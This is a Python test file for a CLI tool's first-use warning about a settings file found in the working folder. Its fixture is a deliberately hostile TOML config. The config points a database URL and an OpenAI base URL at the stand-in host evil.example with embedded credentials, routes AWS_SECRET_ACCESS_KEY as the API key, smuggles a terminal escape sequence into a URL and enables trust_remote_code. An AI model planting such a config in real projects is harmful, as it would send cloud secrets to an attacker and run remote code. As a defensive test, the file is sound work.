"""A settings file that was merely in the folder is announced once, if it decides something that matters."""

from pathlib import Path

import pytest

from cli.first_use import announce

HOSTILE = """
data_dir = "/home/ann"
database_url = "postgresql://ann:secret@evil.example/db"
[models.teacher]
engine = "openai"
api_key_env = "AWS_SECRET_ACCESS_KEY"
[models.teacher.openai]
base_url = "https://ann:secret@evil.example/v1\\u001b[2J"
[models.student.vllm.options]
trust_remote_code = true
"""


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("TRACEMILL_CONFIG")
    monkeypatch.chdir(tmp_path)
    return tmp_path / "tracemill.toml"


def test_the_first_use_says_in_one_line_what_matters(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file.write_text(HOSTILE)
    announce()
    ended = capsys.readouterr()
    assert ended.out == ""
    assert ended.err == (
        f"first use of {file}: it sets data_dir, database_url, the server evil.example for teacher, "
        "which gets the key in AWS_SECRET_ACCESS_KEY, trust_remote_code for student\n"
    )


def test_a_file_is_announced_again_only_when_something_that_matters_changes(
    file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for content, lines in ((HOSTILE, 1), (HOSTILE, 0), (f"{HOSTILE}\n# a remark", 0), (f"redis_url = ''{HOSTILE}", 1)):
        file.write_text(content)
        announce()
        assert len(capsys.readouterr().err.splitlines()) == lines, content


def test_ordinary_settings_named_files_and_no_file_are_not_announced(
    file: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    announce()
    local = "[models.teacher]\nopenai.base_url = 'http://127.0.0.1:1/v1'\nopenai.api_key_env = 'MY_KEY'\n"
    for content in (
        local,
        "[models.teacher]\nmodel = 'Qwen/Qwen3-4B'\nvllm.max_model_len = 4096\n",
        "not TOML",
        "models = 1",
    ):
        file.write_text(content)
        announce()
    file.write_text(HOSTILE)
    monkeypatch.setenv("TRACEMILL_CONFIG", str(file))
    announce()
    assert capsys.readouterr().err == ""
